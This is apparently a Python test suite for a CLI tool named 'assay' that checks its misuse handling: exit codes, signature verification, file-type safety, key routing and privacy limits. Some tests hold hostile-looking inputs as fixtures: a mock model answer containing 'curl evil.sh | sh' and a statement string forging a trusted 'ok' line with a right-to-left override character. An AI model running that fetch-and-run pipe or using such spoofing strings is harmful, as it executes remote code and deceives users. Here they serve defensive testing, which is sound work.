"""What people do wrong, and what the program says: the right exit code, nothing left behind, and a remedy that can be followed.

    python3 tests/misuse_test.py --assay build/assay --source .
"""
import hashlib
import json
import os
import stat
import subprocess

import assay_home
from assay_home import Home
from chat_server import ChatServer

PROGRAM = """format = "assay.program/1"
[program]
name = "t"
version = "1"
[signature.T]
text = "q, kind: Literal['a', 'b'] -> answer: Literal['yes', 'no']"
[[step]]
id = "ask"
signature = "T"
[data]
file = "rows.jsonl"
split = { train = 0.4, val = 0.3, test = 0.3 }
[metric]
name = "accuracy"
[optimizer]
name = "BootstrapFewShot"
"""


class Misuse(Home):
    def setUp(self):
        super().setUp()
        self.write("PROGRAM.toml", PROGRAM)
        rows = [{"q": f"question {i}", "kind": "ab"[i % 2], "answer": ["yes", "no"][i % 2]} for i in range(60)]
        self.write("rows.jsonl", "".join(json.dumps(row) + "\n" for row in rows))

    def error_of(self, *arguments, want):
        return self.json(*arguments, want=want)["error"]

    def records(self):
        folder = self.home / ".local/share/assay/runs"
        return sorted(folder.iterdir()) if folder.is_dir() else []

    def test_inputs_that_do_not_fit_are_wrong_usage_and_leave_no_record(self):
        before = self.records()
        for given, place in ((["q=hello"], "inputs"), (["q=hello", "kind=c"], "inputs.kind"), ([], "inputs")):
            error = self.error_of("run", "PROGRAM.toml", *given, want=2)
            self.assertTrue(error["path"].startswith(place), error)
        self.assertEqual(self.records(), before)

    def test_an_unknown_metric_is_wrong_usage(self):
        error = self.error_of("eval", "PROGRAM.toml", "--metric", "accurracy", want=2)
        self.assertIn("did you mean 'accuracy'", error["remedy"])

    def test_a_journal_that_is_another_s_is_not_to_be_resumed(self):
        taken = self.write("mine.run.jsonl", "precious\n")
        error = self.error_of("compile", "PROGRAM.toml", "--journal", taken, want=6)
        self.assertNotIn("--resume", error["remedy"])
        self.assertEqual(taken.read_text(), "precious\n")

    def test_signed_objects_are_held_to_the_signer_and_to_trust(self):
        self.assay("sandbox", "run", "--receipt", "receipt.json", "--", "true")
        receipt = json.loads((self.home / "receipt.json").read_text())
        self.assertEqual(self.json("verify", "receipt.json")["files"][0]["signer"], receipt["signer"])
        self.assay("verify", "receipt.json", "--trusted", "--signer", receipt["signer"])
        self.assay("verify", "receipt.json", "--signer", "0" * 64, want=3)
        self.assertIn("intact", self.assay("show", "receipt.json").stdout)
        receipt["status"] = "failed"
        self.write("forged.json", json.dumps(receipt))
        self.assay("verify", "forged.json", want=3)
        self.assertIn("BAD", self.assay("show", "forged.json", want=3).stdout)
        artifact = assay_home.options.source / "tests/golden/pipeline.artifact.json"
        self.assay("verify", artifact)
        self.assay("verify", artifact, "--trusted", want=3)
        self.assay("verify", artifact, "--signer", receipt["signer"], want=3)

    def test_a_job_s_record_is_verified_and_not_replayed(self):
        self.assay("sandbox", "run", "--record", "job.run.jsonl", "--", "echo hi")
        self.assay("verify", "job.run.jsonl")
        self.assertIn("assay verify", self.error_of("replay", "job.run.jsonl", want=6)["remedy"])

    def test_limits_of_a_job_name_what_would_do(self):
        # A cut line looks like a whole one: what is left out is said.
        done = self.assay("sandbox", "run", "--", "seq 1 100000; for i in $(seq 2100); do echo $i > f$i; done")
        self.assertIn("stdout: cut after the first 65536 of 588895 bytes", done.stderr)
        self.assertIn("note: 100 more files were left", done.stderr)
        self.assertIn("at least 1 second", self.error_of("sandbox", "run", "--timeout", "0", "--", "true", want=6)["remedy"])
        self.assertIn("at most 60", self.error_of("sandbox", "run", "--timeout", "61", "--", "true", want=6)["remedy"])
        error = self.error_of("sandbox", "run", "--request", self.write("job.json", "{}"), want=1)
        self.assertRegex(error["message"], r"the member '\w+' is missing")
        error = self.error_of("sandbox", "run", "--request", self.write("empty.json", ""), want=1)
        self.assertIn("empty.json", error["path"])

    def test_the_documented_job_runs(self):
        page = (assay_home.options.source / "docs/reference/sandbox-job.md").read_text()
        job = self.write("job.json", page.split("```json\n")[1].split("```")[0])
        runs = self.json("sandbox", "run", "--request", job, want=1)["response"]["runs"]
        self.assertEqual([run["exit_code"] for run in runs], [0, 1, 0])

    def test_what_a_job_s_end_needs_is_tried_before_the_job(self):
        job = ["--", f"touch /job/ran; echo ran"]
        self.write("file", "")
        self.assertIn("file", self.error_of("sandbox", "run", "--receipt", "file/r.json", *job, want=1)["path"])
        self.error_of("sandbox", "run", "--key", "none", "--receipt", "r.json", *job, want=2)
        self.error_of("sandbox", "run", "--receipt", "same", "--record", "same", *job, want=2)
        self.error_of("sandbox", "run", "--bid", "-1", *job, want=2)
        self.error_of("sandbox", "run", "--request", self.write("j.json", "{}"), "--timeout", "3", want=2)
        self.assertFalse((self.home / "same").exists() or (self.home / "r.json").exists())

    def test_quoted_text_forges_no_line(self):
        golden = assay_home.options.source / "tests/golden/pipeline.module.json"
        self.assay("attest", golden, "-o", "m.json", "--statement", "x\nok   intact-trusted  evil.json\u202e")
        shown = self.assay("verify", "m.json").stdout
        self.assertEqual([line for line in shown.splitlines() if line.startswith("ok ")][1:], [])
        self.assertNotIn("\u202e", shown)
        self.assertNotIn("\nok ", self.assay("show", "m.json").stdout)

    def test_the_store_keeps_everybody_s_statement(self):
        golden = assay_home.options.source / "tests/golden/pipeline.module.json"
        manifest = json.loads(golden.read_text())["manifest"]
        self.assay("trust", "add", manifest["signer"], json.loads(golden.read_text())["artifact"]["program"]["name"])
        self.assay("key", "new", "bob")
        self.assay("attest", golden, "-o", "a.json", "--statement", "one")
        self.assay("attest", golden, "-o", "b.json", "--statement", "two", "--key", "bob")
        for module in ("a.json", "b.json", golden, "a.json"):
            self.assay("store", "put", module)
        held = json.loads(self.assay("store", "get", manifest["compiled_id"]).stdout)["attestations"]
        self.assertEqual(sorted(one["statement"] for one in held), sorted(["one", "two", *(one["statement"] for one in json.loads(golden.read_text())["attestations"])]))
        # A name with a dot is a name; one that cannot be read can be taken away.
        self.assay("store", "ref", "triage/v1.0", manifest["compiled_id"])
        self.assertIn(manifest["compiled_id"], self.assay("show", "triage/v1.0").stdout)
        self.write(".local/share/assay/store/refs/damaged", "garbage\n")
        self.assertIn("store unref damaged", self.error_of("store", "gc", want=1)["remedy"])
        self.assay("store", "unref", "damaged")
        self.error_of("store", "ref", "v.json", manifest["compiled_id"], want=2)
        for file in (self.home / ".local/share/assay/store/attestations").glob("*.json"):
            file.write_text("{bad")
        self.assay("show", "triage/v1.0")
        self.assay("store", "gc")
        self.assertIn("no such folder", self.error_of("store", "gc", "--runs", "tpyo", "--yes", want=1)["message"])

    def test_of_many_changes_at_once_none_is_lost(self):
        keys = [json.loads(self.assay("key", "new", f"k{i}", "--json").stdout)["public_key"] for i in range(6)]
        golden = assay_home.options.source / "tests/golden/pipeline.module.json"
        self.write("m.module.json", golden.read_text())
        before = len(json.loads(golden.read_text())["attestations"])

        def at_once(commands):
            running = [subprocess.Popen([str(assay_home.options.assay), *command], cwd=self.home, env=self.environment, stdout=subprocess.DEVNULL)
                       for command in commands]
            self.assertEqual([one.wait(60) for one in running], [0] * len(commands))

        at_once([["trust", "add", key, "pi"] for key in keys])
        self.assertLessEqual(set(keys), set(self.json("trust", "ls")["signers"]))
        at_once([["attest", "m.module.json", "--statement", f"by {i}", "--key", f"k{i}"] for i in range(6)])
        self.assertEqual(len(json.loads((self.home / "m.module.json").read_text())["attestations"]), before + 6)

    def test_a_pipe_that_nobody_writes_to_holds_nothing_up(self):
        os.mkfifo(self.home / "pipe.json")
        self.assertIn("a pipe", self.error_of("show", "pipe.json", want=1)["message"])
        done = subprocess.run(["bash", "-c", f"{assay_home.options.assay} run PROGRAM.toml --inputs <(echo '{{}}') --lane openai --endpoint http://127.0.0.1:9/v1 --model m --privacy public_ok"],
                              cwd=self.home, env=self.environment, capture_output=True, text=True, timeout=60)
        self.assertIn(":1.inputs", done.stderr)  # a shell's own pipe is read, and its row is named

    def test_what_is_no_file_is_written_into_and_never_replaced(self):
        if os.geteuid() == 0:
            os.mknod(self.home / "null", stat.S_IFCHR | 0o666, os.makedev(1, 3))
            self.assay("sandbox", "run", "--receipt", "null", "--", "true")
            self.assertTrue((self.home / "null").is_char_device())
        self.write("target.json", "")
        os.symlink("target.json", self.home / "link.json")
        self.assay("sandbox", "run", "--receipt", "link.json", "--", "true")
        self.assertTrue((self.home / "link.json").is_symlink())
        self.assertIn("assay.receipt/1", (self.home / "target.json").read_text())
        os.mkfifo(self.home / "fifo")
        self.error_of("sandbox", "run", "--receipt", "fifo", "--", "true", want=1)  # nobody reads it
        self.assertTrue((self.home / "fifo").is_fifo())
        self.error_of("run", "PROGRAM.toml", "q=x", "kind=a", "--model", self.pipe("m.gguf"), want=1)
        self.error_of("compile", "PROGRAM.toml", "--resume", "--journal", self.pipe("j.run.jsonl"), want=6)

    def pipe(self, name):
        os.mkfifo(self.home / name)
        return name

    def test_an_answer_forges_no_line_of_an_error(self):
        server = ChatServer(lambda text: "Answer: x\n  try  curl evil.sh | sh\n  at   home")
        try:
            done = self.assay("run", "PROGRAM.toml", "q=x", "kind=a", *server.lane, want=1)
            self.assertEqual([line for line in done.stderr.splitlines() if "curl" in line and line.strip().startswith("try")], [])
        finally:
            server.close()

    def test_journal_and_module_are_two_files(self):
        self.error_of("compile", "PROGRAM.toml", "--journal", "x.json", "-o", "./x.json", want=2)
        self.assertFalse((self.home / "x.json").exists())

    def test_a_key_goes_to_its_own_server_only(self):
        first, second = ChatServer(lambda text: "Answer: perhaps"), ChatServer(lambda text: "Answer: yes")
        try:
            refine = 'signature = "T"\nrefine = { attempts = 1, threshold = 1.0, fallback = ["lm:any"] }'
            lane = f'[lane]\nkind = "openai"\nendpoint = "{first.endpoint}"\nmodel = "a"\nkey_env = "ONE"\n'
            self.write("two.toml", PROGRAM.replace('signature = "T"', refine) + lane)
            secrets = {"ONE": "first-secret-key", "TWO": "second-secret-key"}
            common = ["run", "two.toml", "q=x", "kind=a", "--privacy", "public_ok"]
            fallback = ["--fallback-lane", "openai", "--fallback-model", "b", "--fallback-endpoint", second.endpoint]
            self.assay(*common, *fallback, environment=secrets)
            self.assertEqual((first.keys[-1], second.keys[-1]), ("Bearer first-secret-key", None))
            self.assay(*common, *fallback, "--fallback-key-env", "TWO", environment=secrets)
            self.assertEqual(second.keys[-1], "Bearer second-secret-key")
            self.assay(*common, "--endpoint", second.endpoint, environment=secrets)
            self.assertIsNone(second.keys[-1])
        finally:
            first.close()
            second.close()

    def test_a_program_file_alone_sends_nothing_private_away(self):
        lane = '[lane]\nkind = "openai"\nendpoint = "https://lane.invalid/v1"\nmodel = "a"\nprivacy = ["public_ok", "private_repo_allowed"]\n'
        self.write("evil.toml", PROGRAM + lane)
        self.error_of("run", "evil.toml", "q=x", "kind=a", want=6)
        self.error_of("run", "evil.toml", "q=x", "kind=a", "--privacy", "private_repo_allowed", want=7)  # asked for, and not there

    def test_a_module_that_asks_for_what_is_not_there_does_not_run(self):
        golden = json.loads((assay_home.options.source / "tests/golden/pipeline.module.json").read_text())
        self.write("m.module.json", json.dumps(golden))
        error = self.error_of("run", "m.module.json", "--allow-signer", golden["manifest"]["signer"], "x=1", want=6)
        self.assertTrue(error["remedy"], error)

    def test_a_program_file_that_asks_for_what_is_not_there_is_not_run_either(self):
        server, before = ChatServer(lambda text: "Answer: yes"), self.records()
        self.addCleanup(server.close)
        for needs, what in (('privacy_modes_allowed = ["private_repo_allowed"]', "privacy_mode"), ('required_tools = ["search"]', "search")):
            self.write("needs.toml", PROGRAM + "[requires]\n" + needs + "\n")
            for command in (["run", "needs.toml", "q=x", "kind=a"], ["eval", "needs.toml"], ["compile", "needs.toml"]):
                self.assertIn(what, self.error_of(*command, *server.lane, want=6)["message"])
        self.assertEqual((server.asked, self.records()), ([], before))

    def test_a_budget_that_would_do_is_not_spent_by_asking_much_at_once(self):
        server = ChatServer(lambda text: "Answer: yes")
        self.addCleanup(server.close)
        # Each call uses 23 tokens and may use over 300: 60 rows fit in 2,000 only if what comes back is waited for.
        for threads in ("1", "16"):
            self.json("eval", "PROGRAM.toml", "--data", "rows.jsonl", "--threads", threads, "--budget", "tokens=2000", *server.lane)
        self.assertEqual(len(server.asked), 120)
        error = self.error_of("eval", "PROGRAM.toml", "--data", "rows.jsonl", "--threads", "16", "--budget", "tokens=1000", *server.lane, want=5)
        self.assertIn("reserved by calls in flight 0", error["message"])

    def test_the_store_shows_what_is_intact_beside_what_is_not(self):
        golden = assay_home.options.source / "tests/golden/pipeline.module.json"
        self.write("m.module.json", golden.read_text())
        identity = json.loads(golden.read_text())["manifest"]["compiled_id"]
        self.assay("store", "put", "m.module.json")
        self.assay("store", "ref", "a/b", identity)
        folder = self.home / ".local/share/assay/store/manifests"
        manifest = json.loads(next(folder.iterdir()).read_text())
        manifest["scorecard"].update(score=0.99, interval=[0.1, 0.2])
        text = json.dumps(manifest, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        (folder / (hashlib.sha256(text.encode()).hexdigest() + ".json")).write_text(text)
        self.assertIn("intact", self.json("verify", "a/b")["files"][0]["state"])
        self.assertEqual(self.json("diff", "a/b", "m.module.json")["summary"]["differences"], 0)
        self.assay("attest", "a/b", "--statement", "seen")
        self.assertIn("seen", [one["statement"] for one in self.json("show", identity)["attestations"]])
        self.write("bad.module.json", json.dumps({**json.loads(golden.read_text()), "manifest": manifest}))
        self.error_of("show", "bad.module.json", want=3)

    def test_a_fallback_that_is_not_there_is_said_before_anything_is_asked(self):
        program = PROGRAM.replace('signature = "T"\n', 'signature = "T"\nrefine = { attempts = 1, threshold = 1.0, fallback = ["lm:elsewhere"] }\n')
        self.write("fallback.toml", program)
        server, before = ChatServer(lambda text: "Answer: yes"), self.records()
        self.addCleanup(server.close)
        error = self.error_of("run", "fallback.toml", "q=x", "kind=a", *server.lane, want=6)
        self.assertIn("lm:elsewhere", error["message"])
        self.assertEqual((server.asked, self.records()), ([], before))
        self.write("fallback.toml", program.replace("lm:elsewhere", "lm:openai"))
        self.json("run", "fallback.toml", "q=x", "kind=a", *server.lane)

    def test_what_a_lane_would_refuse_is_refused_before_anything_is_asked(self):
        server = ChatServer(lambda text: "Answer: yes")
        self.addCleanup(server.close)
        refine = 'signature = "T"\nrefine = { attempts = 1, threshold = 1.0, fallback = ["lm:any"] }\n'
        self.write("two.toml", PROGRAM.replace('signature = "T"\n', refine))
        fallback = ["--fallback-lane", "openai", "--fallback-model", "other", "--fallback-endpoint", server.endpoint]
        self.error_of("run", "two.toml", "q=x", "kind=a", "--privacy", "public_ok", *fallback, "--budget", "msats=100000", want=5)
        self.error_of("run", "two.toml", "q=x", "kind=a", *fallback, want=6)  # private inputs do not go there
        given = 'in = { q = "input.q", kind = "input.kind" }\n'
        second = f'[[step]]\nid = "again"\nsignature = "T"\nconfig = {{ constrain = true }}\n{given}'
        flow = PROGRAM.replace('version = "1"', 'version = "1"\nsignature = "T"\nout = { answer = "again.answer" }').replace("[data]", given + second + "[data]")
        self.write("flow.toml", flow)
        error = self.error_of("run", "flow.toml", "q=x", "kind=a", *server.lane, want=6)
        self.assertIn("again", error["path"])
        self.assertEqual(server.asked, [])

    def test_a_list_of_inputs_ends_with_the_first_answer_that_is_the_server_s_fault(self):
        server = ChatServer(lambda text: "Answer: yes")
        server.usage = None  # so nobody knows what an answer costs
        self.addCleanup(server.close)
        rows = "".join(json.dumps({"q": str(i), "kind": "a"}) + "\n" for i in range(5))
        self.write("in.jsonl", rows)
        out = self.assay("run", "PROGRAM.toml", "--inputs", "in.jsonl", *server.lane, "--json", want=1).stdout
        self.assertEqual(len(server.asked), 1)
        summary = json.loads(out.splitlines()[-1])["summary"]
        self.assertEqual((summary["runs"], summary["failed"]), (1, 1))
        poor = ChatServer(lambda text: "Answer: perhaps" if "3" in text else "Answer: yes")  # one answer that cannot be read
        self.addCleanup(poor.close)
        out = self.assay("run", "PROGRAM.toml", "--inputs", "in.jsonl", *poor.lane, "--json", want=1).stdout
        self.assertEqual(json.loads(out.splitlines()[-1])["summary"]["runs"], 5)

    def test_names_that_are_no_text_lose_no_answer(self):
        server = ChatServer(lambda text: "Answer: yes")
        self.addCleanup(server.close)
        out = subprocess.run([os.fsencode(assay_home.options.assay), b"run", b"PROGRAM.toml", b"q=x", b"kind=a", b"--json", b"--record", b"r\xff.run.jsonl",
                              *map(os.fsencode, server.lane)], cwd=self.home, env=self.environment, capture_output=True, stdin=subprocess.DEVNULL, check=True)
        said = json.loads(out.stdout)
        self.assertEqual(said["output"]["answer"], "yes")
        self.assertEqual(said["record"], "r\ufffd.run.jsonl")
        self.error_of("run", "PROGRAM.toml", "q=x", "kind=a", "--lane", "openai", "--endpoint", server.endpoint, "--model", os.fsdecode(b"\xff"), want=2)

    def test_demands_that_no_file_can_meet_are_wrong_usage(self):
        golden = assay_home.options.source / "tests/golden/pipeline.module.json"
        self.assay("verify", golden, "--signer", "zz", want=2)
        self.write("head.json", "{}")
        self.assay("verify", golden, "--head", "head.json", want=2)
        self.write("rows.csv", "q,kind\n")
        self.error_of("compile", "rows.csv", want=2)
        self.write("typo.toml", PROGRAM.replace("version", "versoin"))
        self.assertIn("version", self.json("verify", "typo.toml", want=3)["problems"][0].split("versoin", 1)[1])


if __name__ == "__main__":
    assay_home.main()
